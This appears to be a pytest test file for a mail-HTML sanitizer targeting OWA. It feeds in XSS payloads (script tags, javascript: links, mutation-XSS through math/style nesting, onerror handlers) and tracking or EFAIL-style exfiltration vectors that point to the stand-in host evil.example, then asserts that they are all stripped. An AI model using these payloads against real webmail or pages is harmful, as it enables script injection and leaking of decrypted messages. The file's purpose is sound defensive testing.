"""HTML of a mail before it reaches OWA's page: nothing that acts, nothing from the network, pictures inside."""

from __future__ import annotations

import pytest

from letterlock.dialects.owa.html import cleaned, with_pictures

PNG = b"\x89PNG\r\n\x1a\n picture"


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        '<p onclick="alert(1)">x</p>',
        '<a href="javascript:alert(1)">x</a>',
        '<a href=" jav&#x09;ascript:alert(1)">x</a>',
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        '<iframe src="https://evil.example/"></iframe>',
        '<form action="https://evil.example/"><input name="x"><button>send</button></form>',
        '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
        '<svg><use href="https://evil.example/#x"/><script>alert(1)</script></svg>',
        '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        '<base href="https://evil.example/">',
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        "<style>@import url(https://evil.example/x.css); p { background: url(https://evil.example/) }</style>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    ],
)  # fmt: skip
def test_what_acts_is_taken_out(html: str) -> None:
    """Scripts, handlers, forms, frames, style sheets, and every trick with them."""
    found = cleaned(f"<p>before</p>{html}<p>after</p>").lower()
    assert "evil.example" not in found
    # As attributes or elements; inside of a quoted title they are text.
    for word in ("<script", "<iframe", "<form", "<style", "<svg", "<object", "<link", "<meta", "<base", "javascript:"):
        assert word not in found
    assert " onerror=" not in found.replace("&quot;", '"') or "&lt;img" in found
    assert "before" in found


@pytest.mark.parametrize(
    "html",
    [
        '<img src="https://evil.example/pixel.png?secret">',
        '<img srcset="https://evil.example/a 1x" src="//evil.example/b">',
        '<table background="https://evil.example/x"><tr><td background="https://evil.example/y">x</td></tr></table>',
        '<p style="background:url(https://evil.example/x)">x</p>',
        '<p style="background:u\\72l(https://evil.example/x)">x</p>',
        "<p style=\"background-image:image-set('https://evil.example/x' 1x)\">x</p>",
        '<video poster="https://evil.example/x" src="https://evil.example/y"></video>',
        '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
        '<blockquote cite="https://evil.example/">x</blockquote>',
    ],
)
def test_nothing_is_fetched(html: str) -> None:
    """A decrypted message tells nobody that it is read, and is not carried away in an address (EFAIL)."""
    found = cleaned(html)
    assert "evil.example" not in found
    assert "svg" not in found


def test_what_people_write_stays() -> None:
    """Tables, colours, lists, links."""
    html = (
        '<table border="1"><tbody><tr><td style="color: red">EUR 18\'400</td></tr></tbody></table>'
        '<p align="center"><b>fett</b> <font color="blue">blau</font></p><ul><li>eins</li></ul>'
        '<a href="https://muster.example/offerte">Offerte</a> <a href="mailto:anna@muster.example">Anna</a>'
    )
    found = cleaned(f"<html><head><title>t</title></head><body>{html}</body></html>")
    for each in (
        'border="1"',
        "color: red",
        'align="center"',
        "<font",
        "<li>eins</li>",
        "https://muster.example/offerte",
    ):
        assert each in found
    assert "EUR 18'400" in found
    assert "mailto:anna@muster.example" in found


def test_pictures_that_came_along_stand_in_the_html() -> None:
    """As data; of other kinds, and those that did not come along, nothing is made."""
    html = cleaned('<img src="cid:a@b"><img src="cid:missing"><img src="cid:page">')
    pictures = {"a@b": ("image/png", lambda: [PNG[:5], PNG[5:]]), "page": ("text/html", lambda: [b"<script>"])}
    found = "".join(with_pictures(html, pictures, 1000))
    assert found.count("data:image/png;base64,iVBORw0KGgog") == 1
    assert "cid:missing" in found
    assert "cid:page" in found
    assert "data:text" not in found


def test_a_picture_shown_a_thousand_times_is_not_copied_a_thousand_times() -> None:
    """What goes beyond the budget stays an address."""
    html = '<img src="cid:a">' * 1000
    found = "".join(with_pictures(html, {"a": ("image/png", lambda: [b"x" * 100])}, 450))
    assert found.count("data:image/png") == 4
    assert found.count("cid:a") == 996
